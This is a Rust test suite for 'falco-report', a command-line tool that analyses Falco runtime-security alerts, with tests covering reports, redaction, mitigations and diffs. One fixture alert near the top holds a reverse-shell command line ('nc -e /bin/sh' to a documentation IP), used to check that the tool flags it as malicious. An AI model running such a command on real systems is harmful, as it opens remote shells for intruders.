//! The command as a user runs it: arguments, streams, files and exit codes.

#[cfg(test)]
mod cli {
    use std::fs;
    use std::io::Write;
    use std::path::{Path, PathBuf};
    use std::process::{Command, Output, Stdio};

    /// An alert that is judged likely malicious.
    const ATTACK: &str = r#"{"rule":"Payment key read","priority":"Warning","source":"syscall","output_fields":{"proc.exepath":"/tmp/.x/nc","container.id":"host","fd.name":"/run/pay.key","proc.name":"nc","proc.cmdline":"nc -e /bin/sh 203.0.113.9 4444"}}"#;

    fn fixture(name: &str) -> PathBuf {
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures").join(name)
    }

    fn falco_report(arguments: &[&str], stdin: &[u8]) -> Output {
        let mut child = Command::new(env!("CARGO_BIN_EXE_falco-report"))
            .args(arguments)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        // The command may end without reading all of it.
        let _ = child.stdin.take().unwrap().write_all(stdin);
        child.wait_with_output().unwrap()
    }

    /// Standard output of a run that must succeed, and what it said on standard error.
    #[track_caller]
    fn succeeds(arguments: &[&str], stdin: &[u8]) -> (String, String) {
        let output = falco_report(arguments, stdin);
        let said = String::from_utf8(output.stderr).unwrap();
        assert_eq!(output.status.code(), Some(0), "{said}");
        (String::from_utf8(output.stdout).unwrap(), said)
    }

    /// What a run that must fail with 2 said.
    #[track_caller]
    fn fails(arguments: &[&str], stdin: &[u8]) -> String {
        let output = falco_report(arguments, stdin);
        let said = String::from_utf8(output.stderr).unwrap();
        assert_eq!(output.status.code(), Some(2), "{said}");
        assert!(output.stdout.is_empty());
        said
    }

    fn text(path: &Path) -> &str {
        path.to_str().unwrap()
    }

    const KNOWLEDGE: &str = "[[rule]]\nname = 'Payment key read'\naction = 'read the key that signs payments'\nbehaviour = 'A program opened the key.'\n";

    #[test]
    fn your_own_knowledge_explains_a_rule_and_is_checked() {
        let folder = tempfile::tempdir().unwrap();
        let file = folder.path().join("mine.toml");
        let (path, alerts) = (text(&file), fixture("many.jsonl"));
        fs::write(&file, KNOWLEDGE).unwrap();
        let (report, said) = succeeds(&["report", "--knowledge", path, text(&alerts)], b"");
        assert!(report.contains("read the key that signs payments") && said.is_empty(), "{said}");
        fs::write(&file, KNOWLEDGE.replace("behaviour", "behavior")).unwrap();
        let said = fails(&["report", "--knowledge", path, text(&alerts)], b"");
        assert!(
            said.contains("mine.toml, line 1, `Payment key read`, key `behaviour`: it is needed"),
            "{said}"
        );
        assert!(said.contains("mine.toml, line 4, `Payment key read`, key `behavior`: there is no such key"));
        assert!(said.ends_with("knowledge is not in order: `mine.toml`\n"), "{said}");
    }

    #[test]
    fn a_review_marks_findings_wherever_it_is_given_and_is_checked() {
        let folder = tempfile::tempdir().unwrap();
        let (alerts, review) = (folder.path().join("a.jsonl"), folder.path().join("review.toml"));
        fs::copy(fixture("many.jsonl"), &alerts).unwrap();
        let (plain, _) = succeeds(&["report", "--format", "json", text(&alerts)], b"");
        let plain: serde_json::Value = serde_json::from_str(&plain).unwrap();
        let id = plain["findings"][0]["id"].as_str().unwrap();
        let lines = format!("[review]\n{id} = {{ mark = 'done', note = 'Fixed.' }}\n");
        fs::write(&review, &lines).unwrap();
        let (given, said) = succeeds(&["report", "--review", text(&review), text(&alerts)], b"");
        assert!(given.contains("**Review.** Marked done. The note: `Fixed.`") && said.is_empty(), "{said}");
        let (found, _) = succeeds(&["report", text(folder.path())], b"");
        assert_eq!(found, given, "a review among the input is known by its content");
        fs::write(&review, format!("{lines}{id} = {{ mark = 'done' }}\n")).unwrap();
        let said = fails(&["report", "--review", text(&review), text(&alerts)], b"");
        assert_eq!(
            said,
            "falco-report: review.toml, line 3: duplicate key\nfalco-report: review is not in order: `review.toml`\n"
        );
    }

    #[test]
    fn a_report_that_is_kept_names_the_hashes_of_its_input() {
        let folder = tempfile::tempdir().unwrap();
        let (alert, kept) = (folder.path().join("abc.json"), folder.path().join("report.json"));
        fs::write(&alert, "{\"rule\":\"R\",\"output\":\"o\"}").unwrap();
        let sha256 = "26ab16e6d144030d35bc3a4593fdd5e8d22ac59936094259a35cdc08f70ed9b6";
        let of = |path: &Path| {
            serde_json::from_str::<serde_json::Value>(&fs::read_to_string(path).unwrap()).unwrap()
        };
        succeeds(&["report", "--format", "json", "-o", text(&kept), text(&alert)], b"");
        assert_eq!(of(&kept)["input"]["files"][0]["sha256"], sha256);
        let (unkept, _) = succeeds(&["report", "--format", "json", text(&alert)], b"");
        assert!(unkept.contains("\"sha256\": null"));
        succeeds(&["report", "-o", text(&kept), text(&alert)], b"");
        assert!(fs::read_to_string(&kept).unwrap().contains(&format!("SHA-256 `{sha256}`.")));
    }

    #[test]
    fn conditions_are_decided_over_events_and_alerts() {
        let folder = tempfile::tempdir().unwrap();
        let path = |name: &str, content: &str| {
            let path = folder.path().join(name);
            fs::write(&path, content).unwrap();
            path.to_str().unwrap().to_owned()
        };
        let conditions = path(
            "conditions.jsonl",
            "{\"id\":\"name\",\"condition\":\"proc.name in (cat, tac)\"}\n\
             {\"id\":\"missing\",\"condition\":\"fd.num = 3 or proc.name = tac\"}\n\
             {\"id\":\"list\",\"condition\":\"fd.types intersects (ipv4)\"}\n\
             {\"id\":\"port\",\"condition\":\"fd.port intersects (1)\"}\n\
             {\"id\":\"typo\",\"condition\":\"proc.nmae = cat\"}\n\
             {\"id\":\"cut\",\"condition\":\"proc.name =\"}\n",
        );
        let events = path(
            "events.jsonl",
            "{\"event\":7,\"fields\":{\"proc.name\":\"cat\",\"fd.type\":null,\"fd.types\":[\"file\",\"ipv4\"]}}\n\n\
             {\"event\":9,\"fields\":{\"proc.name\":\"tac\",\"fd.type\":\"file\",\"fd.types\":null}}\n",
        );
        let (out, said) =
            succeeds(&["eval", "--conditions", &conditions, "--events", &events, "--json"], b"");
        assert!(said.is_empty());
        let lines: Vec<&str> = out.lines().collect();
        assert_eq!(lines[0], r#"{"id":"name","matches":[7,9],"unknown":[]}"#);
        assert_eq!(lines[1], r#"{"id":"missing","matches":[9],"unknown":[7]}"#);
        assert_eq!(lines[2], r#"{"id":"list","matches":[7],"unknown":[]}"#);
        assert_eq!(lines[3], r#"{"id":"port","matches":[],"unknown":[]}"#);
        assert!(lines[4].contains("filter_check called with nonexistent field proc.nmae"));
        assert!(lines[5].contains("LOAD_ERR_COMPILE_CONDITION"));

        let alerts =
            "{\"rule\":\"a\",\"output_fields\":{\"proc.name\":\"cat\",\"fd.type\":\"ipv4\"}}\nnoise\n";
        let arguments = ["eval", "--conditions", &conditions, "--events", "-", "--json"];
        let (out, said) = succeeds(&arguments, alerts.as_bytes());
        assert!(said.contains("1 line was skipped"));
        assert!(out.starts_with(r#"{"id":"name","matches":[1],"unknown":[]}"#));
        assert!(out.contains(r#"{"error":{"code":"ENGINE_EXIT","message":"filter error: unsupported port comparison operator"},"id":"port"}"#));
        let (out, _) = succeeds(&arguments[..5], alerts.as_bytes());
        assert!(out.starts_with("name: matches 1 of 1 (1), unknown 0\n"));
        assert!(out.contains("write `proc.name` instead"));

        let said = fails(&["eval", "--conditions", "-", "--events", "-"], b"");
        assert!(said.contains("one standard input"));
        let said = fails(&["eval", "--conditions", &conditions, "--events", "-"], b"nothing here\n");
        assert!(said.contains("nothing to evaluate"));
    }

    #[test]
    fn a_file_and_the_same_bytes_on_stdin() {
        let path = fixture("ptrace_event_generator_kubernetes.json");
        let (from_file, _) = succeeds(&["report", text(&path)], b"");
        let (from_stdin, _) = succeeds(&["report"], &fs::read(&path).unwrap());
        assert!(from_file.starts_with("# Alert Analysis Report\n"));
        assert_eq!(from_stdin, from_file.replace("`ptrace_event_generator_kubernetes.json`", "`input`"));
        assert_eq!(succeeds(&["report", "-"], &fs::read(&path).unwrap()).0, from_stdin);
    }

    /// A report that is kept differs from a printed one in the hashes of its input alone.
    #[test]
    fn every_format_goes_to_a_file_too() {
        let folder = tempfile::tempdir().unwrap();
        let (input, out) = (fixture("many.jsonl"), folder.path().join("out"));
        for (format, begins, before, after, unhashed) in [
            ("md", "# Alert", " SHA-256 `", "`.", ""),
            ("html", "<!doctype html>", " SHA-256 <code>", "</code>.", ""),
            ("json", "{\n  \"schema\": \"falco-report/1\"", "\"sha256\": \"", "\"", "\"sha256\": null"),
        ] {
            let (printed, _) = succeeds(&["report", text(&input), "--format", format], b"");
            assert!(printed.starts_with(begins), "{format}");
            let (nothing, _) = succeeds(&["report", text(&input), "--format", format, "-o", text(&out)], b"");
            assert!(nothing.is_empty());
            let kept = fs::read_to_string(&out).unwrap();
            let (start, rest) = kept.split_once(before).unwrap();
            let (hash, end) = rest.split_once(after).unwrap();
            assert!(hash.len() == 64 && hash.bytes().all(|byte| byte.is_ascii_hexdigit()), "{hash}");
            assert_eq!(format!("{start}{unhashed}{end}"), printed);
        }
    }

    #[test]
    fn a_page_with_its_alerts_is_read_again() {
        let folder = tempfile::tempdir().unwrap();
        let (input, page) = (fixture("many.jsonl"), folder.path().join("page.html"));
        let embed = ["--format", "html", "--embed-alerts"];
        succeeds(&[&["report", text(&input), "-o", text(&page)], &embed[..]].concat(), b"");
        let until_appendix = |input: &Path| {
            let (report, _) = succeeds(&["report", text(input)], b"");
            report.split_once("\n## Appendix").unwrap().0.to_owned()
        };
        assert_eq!(until_appendix(&page), until_appendix(&input));
        let secret = br#"{"rule":"R","hostname":"db-7","output":"x","output_fields":{"proc.cmdline":"mysql -pTr0ub4dor"}}"#;
        let (redacted, _) = succeeds(&[&["report", "--redact"], &embed[..]].concat(), secret);
        assert!(!redacted.contains("Tr0ub4dor") && redacted.contains("\"mysql -predacted-password-1\""));
        let said = fails(&["report", text(&input), "--embed-alerts"], b"");
        assert!(said.contains("add `--format html`"), "{said}");
        let many = format!("{{\"rule\":\"R\",\"output\":\"{}\"}}\n", "x".repeat(60_000)).repeat(10);
        let said = fails(&[&["report"], &embed[..]].concat(), many.as_bytes());
        assert!(said.contains("these 10 alerts are too many to embed"), "{said}");
    }

    #[test]
    fn a_directory_is_read_in_order_of_names() {
        let folder = tempfile::tempdir().unwrap();
        fs::create_dir_all(folder.path().join("b/c")).unwrap();
        for (name, from) in
            [("z.json", "custom_rule.json"), ("b/c/a.json", "pretty.json"), ("B.json", "array.json")]
        {
            fs::copy(fixture(from), folder.path().join(name)).unwrap();
        }
        let (json, _) = succeeds(&["report", text(folder.path()), "--format", "json"], b"");
        let report: serde_json::Value = serde_json::from_str(&json).unwrap();
        let files = report["input"]["files"].as_array().unwrap();
        let names: Vec<&str> = files.iter().map(|file| file["name"].as_str().unwrap()).collect();
        assert_eq!(names, ["B.json", "b/c/a.json", "z.json"]);
        assert_eq!(report["input"]["alerts"], 4);
    }

    fn shape(name: &str) -> PathBuf {
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/shapes").join(name)
    }

    #[test]
    fn compressed_files_and_archives_are_read() {
        for (name, alerts) in
            [("falco.log.gz", 2), ("falco.log.zst", 2), ("capture.tar.gz", 2), ("capture.zip", 2)]
        {
            let path = shape(name);
            let (json, _) = succeeds(&["report", text(&path), "--format", "json"], b"");
            let (piped, _) = succeeds(&["report", "--format", "json"], &fs::read(&path).unwrap());
            let [report, piped] =
                [json, piped].map(|json| serde_json::from_str::<serde_json::Value>(&json).unwrap());
            assert_eq!(report["input"]["alerts"], alerts, "{name}");
            assert_eq!(report["findings"], piped["findings"], "{name}");
        }
        let (report, _) = succeeds(&["report", text(&shape("capture.tar.gz"))], b"");
        assert!(report.contains("`capture.tar.gz/node-1/falco.log`"), "{report}");
    }

    #[test]
    fn copies_of_one_log_are_counted_once() {
        let folder = tempfile::tempdir().unwrap();
        let lines = fs::read_to_string(fixture("many.jsonl")).unwrap();
        let earlier: String = lines.lines().take(7).map(|line| format!("{line}\n")).collect();
        fs::write(folder.path().join("falco.log.1"), earlier).unwrap();
        fs::write(folder.path().join("falco.log.2"), &lines).unwrap();
        let (json, _) = succeeds(&["report", text(folder.path()), "--format", "json"], b"");
        let report: serde_json::Value = serde_json::from_str(&json).unwrap();
        assert_eq!(report["input"]["duplicates"], 7);
        assert_eq!(report["input"]["alerts"], lines.lines().count());
    }

    #[cfg(unix)]
    #[test]
    fn directories_are_read_without_going_in_circles() {
        let folder = tempfile::tempdir().unwrap();
        fs::copy(fixture("custom_rule.json"), folder.path().join("a.json")).unwrap();
        std::os::unix::fs::symlink(folder.path(), folder.path().join("circle")).unwrap();
        std::os::unix::fs::symlink(folder.path().join("a.json"), folder.path().join("b.json")).unwrap();
        let (json, said) = succeeds(&["report", text(folder.path()), "--format", "json"], b"");
        let report: serde_json::Value = serde_json::from_str(&json).unwrap();
        assert_eq!(report["input"]["files"].as_array().unwrap().len(), 2);
        assert_eq!((&report["input"]["alerts"], &report["input"]["duplicates"]), (&1.into(), &1.into()));
        assert!(said.contains("circle` is a link that leads to no file"), "{said}");
    }

    #[test]
    fn rule_files_are_taken_by_content_or_by_name() {
        let (alerts, rules) = (fixture("custom_rule.json"), fixture("../rules/payment_rules.yaml"));
        let (among, _) = succeeds(&["report", text(&alerts), text(&rules)], b"");
        assert!(among.contains("**Your rule file.** `payment_rules.yaml` defines the rule"), "{among}");
        assert!(among.contains("`payment_rules.yaml`: Falco does not load it."), "{among}");
        let (named, _) = succeeds(&["report", text(&alerts), "--rules", text(&rules)], b"");
        assert_eq!(named, among);
        let out = tempfile::tempdir().unwrap();
        succeeds(&["mitigate", text(&alerts), "--rules", text(&rules), "-o", text(out.path())], b"");
        assert!(fails(&["report", text(&alerts), "--rules", "/no/such.yaml"], b"").contains("/no/such.yaml"));
    }

    #[test]
    fn mitigation_files_are_written_and_not_overwritten() {
        let folder = tempfile::tempdir().unwrap();
        let (input, out) = (fixture("ptrace_event_generator_kubernetes.json"), folder.path().join("out"));
        let arguments = ["mitigate", text(&input), "-o", text(&out)];
        succeeds(&arguments, b"");
        succeeds(&arguments, b"");
        let tuning = out.join("falco/known_ptrace_procs.yaml");
        assert!(fs::read_to_string(&tuning).unwrap().contains("- macro: known_ptrace_procs\n"));
        let proof: serde_json::Value =
            serde_json::from_str(&fs::read_to_string(out.join("proof.json")).unwrap()).unwrap();
        assert_eq!(proof["schema"], "falco-report-proof/1");
        fs::write(&tuning, "mine").unwrap();
        assert!(fails(&arguments, b"").contains("--force"));
        assert_eq!(fs::read_to_string(&tuning).unwrap(), "mine");
        succeeds(&[arguments.as_slice(), &["--force"]].concat(), b"");
        assert_ne!(fs::read_to_string(&tuning).unwrap(), "mine");
    }

    #[test]
    fn a_tuning_is_checked_again_against_another_capture() {
        let folder = tempfile::tempdir().unwrap();
        let alert = |program: &str, number: u32| {
            format!(
                r#"{{"rule":"PTRACE attached to process","priority":"Warning","source":"syscall","output":"{number}","output_fields":{{"proc.exepath":"{program}","container.id":"0123456789ab","container.image.repository":"registry.example/agent","k8s.ns.name":"platform","proc.pid":{number}}}}}"#
            )
        };
        let [monday, tuesday] = ["monday.jsonl", "tuesday.jsonl"].map(|name| folder.path().join(name));
        fs::write(&monday, [alert("/usr/bin/agent", 7), alert("/usr/bin/agent", 8)].join("\n")).unwrap();
        let other = [alert("/usr/bin/gdb", 1), alert("/usr/bin/agent", 2), alert("/usr/bin/agent", 3)];
        fs::write(&tuesday, other.join("\n")).unwrap();
        let out = folder.path().join("out");
        succeeds(&["mitigate", text(&monday), "-o", text(&out)], b"");
        let tuning = out.join("falco/known_ptrace_procs.yaml");
        for (capture, hidden, kept) in [(&monday, vec![1, 2], vec![]), (&tuesday, vec![2, 3], vec![1])] {
            let (json, _) = succeeds(&["simulate", "--overlay", text(&tuning), text(capture), "--json"], b"");
            let result: serde_json::Value = serde_json::from_str(&json).unwrap();
            assert_eq!(result["hidden"], serde_json::json!(hidden));
            assert_eq!(result["kept"], serde_json::json!(kept));
        }
        let readme = fs::read_to_string(out.join("README.md")).unwrap();
        assert!(readme.contains("### `falco/known_ptrace_procs.yaml`"), "{readme}");
        assert!(readme.contains("- Proof: hides 2, also hides 0, keeps 0, undecided 0."), "{readme}");
    }

    #[test]
    fn nothing_to_mitigate_says_why() {
        let folder = tempfile::tempdir().unwrap();
        let (input, out) = (folder.path().join("attack.json"), folder.path().join("out"));
        fs::write(&input, ATTACK).unwrap();
        let (_, said) = succeeds(&["mitigate", text(&input), "-o", text(&out)], b"");
        assert!(said.contains("judged likely malicious"), "{said}");
        assert!(!out.exists());
    }

    #[test]
    fn an_attack_is_hidden_only_where_it_is_named_and_insisted_on() {
        let folder = tempfile::tempdir().unwrap();
        let (input, out) = (folder.path().join("attack.json"), folder.path().join("out"));
        fs::write(&input, ATTACK).unwrap();
        let (json, _) = succeeds(&["report", "--format", "json", text(&input)], b"");
        let report: serde_json::Value = serde_json::from_str(&json).unwrap();
        let id = report["findings"][0]["id"].as_str().unwrap();
        let selected = ["mitigate", text(&input), "-o", text(&out), "--select", id];
        succeeds(&selected, b"");
        assert!(!out.exists());
        succeeds(&[selected.as_slice(), &["--force", "--now", "2026-01-31T08:00:00Z"]].concat(), b"");
        let proof = fs::read_to_string(out.join("proof.json")).unwrap();
        let proof: serde_json::Value = serde_json::from_str(&proof).unwrap();
        let file = proof["mitigations"][0]["file"].as_str().unwrap();
        let content = fs::read_to_string(out.join(file)).unwrap();
        for said in ["# Made at 2026-01-31T08:00:00", "# WARNING: hides 1 alert that is"] {
            assert!(content.contains(said), "{content}");
        }
        let unknown = ["mitigate", text(&input), "-o", text(&out), "--select", "0000"];
        assert!(fails(&unknown, b"").contains("no finding has the id `0000`"));
    }

    #[test]
    fn a_link_opens_to_the_report_of_its_alerts() {
        let input = fixture("ptrace_falcosidekick.json");
        let (link, _) = succeeds(&["link", "--no-redact", text(&input)], b"");
        assert!(link.starts_with("#r2."));
        let (based, _) =
            succeeds(&["link", "--no-redact", "--base", "https://example.org/", text(&input)], b"");
        assert_eq!(based, format!("https://example.org/{link}"));
        let (direct, _) = succeeds(&["report", text(&input)], b"");
        let (opened, _) = succeeds(&["open", based.trim()], b"");
        let before_input = |report: &str| report.split("\n### Input").next().unwrap().to_owned();
        assert_eq!(before_input(&opened), before_input(&direct));
        assert_eq!(succeeds(&["open"], link.as_bytes()).0, opened);
        let mut damaged = link.trim().to_owned();
        damaged.pop();
        assert!(fails(&["open", &damaged], b"").contains("This link is damaged"));
        assert!(fails(&["open", "hello"], b"").contains("not a link"));
    }

    #[test]
    fn two_sets_are_compared() {
        let folder = tempfile::tempdir().unwrap();
        let lines = |name: &str, rules: &[(&str, usize)]| {
            let mut text = String::new();
            for (rule, count) in rules {
                text += &format!("{{\"rule\":\"{rule}\",\"output\":\"x\"}}\n").repeat(*count);
            }
            let path = folder.path().join(name);
            fs::write(&path, text).unwrap();
            path
        };
        let before =
            lines("before.jsonl", &[("Gone | rule", 1), ("Louder", 10), ("Quieter", 40), ("Same", 12)]);
        let after = lines("after.jsonl", &[("New", 2), ("Louder", 20), ("Quieter", 20), ("Same", 13)]);
        let (json, _) = succeeds(&["diff", text(&before), text(&after), "--format", "json"], b"");
        let diff: serde_json::Value = serde_json::from_str(&json).unwrap();
        let changes: Vec<String> = diff["changes"]
            .as_array()
            .unwrap()
            .iter()
            .map(|change| {
                format!("{} {} {} {}", change["change"], change["rule"], change["before"], change["after"])
            })
            .collect();
        assert_eq!(
            changes,
            [
                "\"new\" \"New\" 0 2",
                "\"louder\" \"Louder\" 10 20",
                "\"quieter\" \"Quieter\" 40 20",
                "\"gone\" \"Gone | rule\" 1 0"
            ]
        );
        assert_eq!((&diff["schema"], &diff["unchanged"]), (&"falco-report-diff/1".into(), &1.into()));
        let (markdown, _) = succeeds(&["diff", text(&before), text(&after)], b"");
        assert!(markdown.contains("1 new, 1 louder, 1 quieter, 1 gone, 1 little changed"), "{markdown}");
        assert!(markdown.contains("| `Gone ⟨U+007C⟩ rule` |"), "{markdown}");
        let (from_stdin, _) = succeeds(&["diff", "-", text(&after)], &fs::read(&before).unwrap());
        assert_eq!(from_stdin, markdown.replace("`before.jsonl`", "`input`"));
        assert!(fails(&["diff", "-", "-"], b"").contains("one standard input"));
    }

    #[test]
    fn a_navigator_layer_names_the_techniques() {
        let (layer, _) = succeeds(&["report", text(&fixture("many.jsonl")), "--format", "navigator"], b"");
        let layer: serde_json::Value = serde_json::from_str(&layer).unwrap();
        assert_eq!(
            (&layer["domain"], &layer["versions"]["layer"]),
            (&"enterprise-attack".into(), &"4.5".into())
        );
        let techniques = layer["techniques"].as_array().unwrap();
        let ptrace = techniques.iter().find(|one| one["techniqueID"] == "T1055.008").unwrap();
        assert_eq!((&ptrace["tactic"], &ptrace["score"]), (&"privilege-escalation".into(), &18.into()));
    }

    #[test]
    fn a_password_never_comes_from_the_arguments() {
        let folder = tempfile::tempdir().unwrap();
        let file = folder.path().join("password");
        fs::write(&file, "correct horse\r\n").unwrap();
        let input = fixture("custom_rule.json");
        let (link, _) = succeeds(&["link", "--compact", "--password-file", text(&file), text(&input)], b"");
        let (opened, said) = succeeds(&["open", link.trim(), "--password-file", "-"], b"correct horse");
        assert!(opened.contains("Payment key read") && said.contains("without the output"), "{said}");
        let wrong = fails(&["open", link.trim(), "--password-file", "-"], b"correct hors");
        assert!(wrong.contains("The password is wrong, or the link was changed."), "{wrong}");
        assert!(fails(&["open", link.trim()], b"").contains("opens with a password only"));
        assert!(fails(&["link", "--password-file", "-"], b"x").contains("`-` can be given once"));
    }

    #[test]
    fn links_and_reports_are_redacted_and_say_so() {
        let input = br#"{"rule":"R","hostname":"db-7","output":"x","output_fields":{"proc.cmdline":"mysql -pTr0ub4dor"}}"#;
        let (link, said) = succeeds(&["link"], input);
        assert!(said.contains("2 values have pseudonyms"), "{said}");
        let (opened, _) = succeeds(&["open", link.trim()], b"");
        let (reported, _) = succeeds(&["report", "--redact"], input);
        let (alerts, _) = succeeds(&["redact"], input);
        let (kept, _) = succeeds(&["redact", "--keep", "db-7", "--redact-also", "mysql"], input);
        for redacted in [&opened, &reported, &alerts, &kept] {
            assert!(
                !redacted.contains("Tr0ub4dor") && redacted.contains("redacted-password-1"),
                "{redacted}"
            );
            assert_eq!(redacted.contains("db-7"), *redacted == kept);
        }
        let (list, _) = succeeds(&["redact", "--list"], input);
        assert_eq!(list, "host name\tdb-7\tredacted-host-1\npassword\tTr0ub4dor\tredacted-password-1\n");
    }

    #[test]
    fn partly_readable_input_succeeds_and_says_what_was_skipped() {
        let (report, said) = succeeds(&["report", text(&fixture("malformed.txt"))], b"");
        assert!(report.contains("### Skipped records"));
        assert!(said.contains("3 records were skipped; the first is malformed.txt:1:20"), "{said}");
    }

    #[test]
    fn unreadable_input_fails_with_position_and_next_step() {
        let said = fails(&["report"], b"\xFD7zXZ\0...");
        assert!(
            said.contains("input:1:1: the file is compressed with xz") && said.contains("unpack it"),
            "{said}"
        );
        assert!(fails(&["report", "/no/such/file"], b"").contains("cannot read `/no/such/file`"));
        assert!(fails(&["report", "-", "-"], b"").contains("one standard input"));
    }

    #[test]
    fn readable_input_without_alerts_is_an_empty_report() {
        let (report, said) = succeeds(&["report"], b"");
        assert!(report.contains("No alert was found.") && said.is_empty());
        succeeds(&["report", text(&fixture("no_alert.log"))], b"");
    }

    #[test]
    fn rubbish_is_not_an_empty_report() {
        let said = fails(&["report"], b"root:x:0:0:root\nhello\n");
        assert!(said.contains("no alert could be read") && said.contains("no JSON record"), "{said}");
    }

    #[test]
    fn what_input_wrote_cannot_drive_the_terminal() {
        let said = fails(&["report"], b"[{}, \"\x1b[2J\"]");
        assert!(!said.contains('\x1b'), "{said}");
        let said = fails(&["report", "/no/such/\x1b[2J"], b"");
        assert!(!said.contains('\x1b') && said.contains("U+001B"), "{said}");
    }

    #[test]
    fn a_time_is_printed_when_asked_for() {
        let input = fixture("custom_rule.json");
        let (dated, _) = succeeds(&["report", text(&input), "--now", "2026-05-01T02:00:00+02:00"], b"");
        assert!(dated.contains("Made at 2026-05-01T00:00:00.000000000Z."));
        assert!(fails(&["report", text(&input), "--now", "yesterday"], b"").contains("RFC 3339"));
    }

    #[test]
    fn a_reader_that_stops_early_is_no_failure() {
        let command = format!(
            "\"{}\" report \"{}\" | head -n 1",
            env!("CARGO_BIN_EXE_falco-report"),
            text(&fixture("many.jsonl"))
        );
        let output = Command::new("bash").args(["-o", "pipefail", "-c", &command]).output().unwrap();
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        assert_eq!(output.stdout, b"# Alert Analysis Report\n");
    }
}
